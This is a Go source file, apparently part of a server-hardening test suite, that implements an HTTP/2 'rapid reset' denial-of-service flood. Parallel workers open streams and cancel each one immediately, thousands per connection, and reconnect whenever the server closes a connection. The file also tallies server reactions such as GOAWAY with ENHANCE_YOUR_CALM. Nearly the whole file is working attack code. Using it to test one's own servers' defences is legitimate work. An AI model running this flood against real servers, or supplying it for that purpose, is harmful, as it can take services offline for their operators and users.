package hostile

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

const (
	// resetsPerConn is how many streams a client opens before it takes another connection, where
	// the server lets it.
	resetsPerConn = 10_000
	// resetBatch is after how many resets a client looks whether the server has ended the connection.
	resetBatch = 500
	// lastWord is how long a client waits for the server to end the connection after its last reset.
	lastWord = time.Second
)

// Resets is what became of a flood of resets.
type Resets struct {
	// Sent is how many streams were opened and reset; Refused is how many the server answered or
	// reset first.
	Sent, Refused atomic.Int64
	// Connections were opened, and Ended of them by the server.
	Connections, Ended atomic.Int64
	// Calm is how many got GOAWAY with ENHANCE_YOUR_CALM.
	Calm atomic.Int64
	left atomic.Int64
}

func (r *Resets) String() string {
	return fmt.Sprintf("%d resets on %d connections, %d of which the server ended (%d with ENHANCE_YOUR_CALM), %d streams answered",
		r.Sent.Load(), r.Connections.Load(), r.Ended.Load(), r.Calm.Load(), r.Refused.Load())
}

// Flood opens count streams with a GET of path, and resets each at once, on workers connections at
// a time. A connection that the server ends is replaced by another.
func (t Target) Flood(ctx context.Context, path string, count, workers int) (*Resets, error) {
	r := &Resets{}
	r.left.Store(int64(count))
	errs := make(chan error, workers)
	var group sync.WaitGroup
	for range workers {
		group.Go(func() {
			for r.left.Load() > 0 && ctx.Err() == nil {
				if err := t.floodOnce(ctx, r, path); err != nil {
					errs <- err
					return
				}
			}
		})
	}
	group.Wait()
	select {
	case err := <-errs:
		return r, err
	default:
		return r, ctx.Err()
	}
}

// floodOnce floods one connection until it has ended.
func (t Target) floodOnce(ctx context.Context, r *Resets, path string) error {
	conn, err := t.dial(ctx, HTTP2, 0)
	if err != nil {
		return err
	}
	defer context.AfterFunc(ctx, conn.Abort)()
	defer conn.Abort()
	r.Connections.Add(1)
	h, err := newH2(conn)
	if err != nil {
		return err
	}
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		h.count(r)
	}()
	h.reset(t, r, path, ended)
	select {
	case <-ended:
		r.Ended.Add(1)
	case <-time.After(lastWord):
	}
	conn.Abort()
	<-ended
	return nil
}

// reset writes until the flood or the connection has ended.
func (h *h2) reset(t Target, r *Resets, path string, ended <-chan struct{}) {
	out := bufio.NewWriterSize(h.conn, 64<<10)
	h.framer = http2.NewFramer(out, h.conn)
	for i := range uint32(resetsPerConn) {
		if r.left.Add(-1) < 0 {
			break
		}
		id := 2*i + 1
		if h.get(id, h.headers(t, path)) != nil || h.framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			r.left.Add(1)
			return
		}
		r.Sent.Add(1)
		if i%resetBatch == 0 {
			select {
			case <-ended:
				return
			default:
			}
		}
	}
	_ = out.Flush()
}

// count reads what the server says until the connection ends.
func (h *h2) count(r *Resets) {
	in := http2.NewFramer(io.Discard, h.conn)
	for {
		frame, err := in.ReadFrame()
		if err != nil {
			return
		}
		switch f := frame.(type) {
		case *http2.GoAwayFrame:
			if f.ErrCode == http2.ErrCodeEnhanceYourCalm {
				r.Calm.Add(1)
			}
			return
		case *http2.HeadersFrame, *http2.RSTStreamFrame:
			r.Refused.Add(1)
		}
	}
}
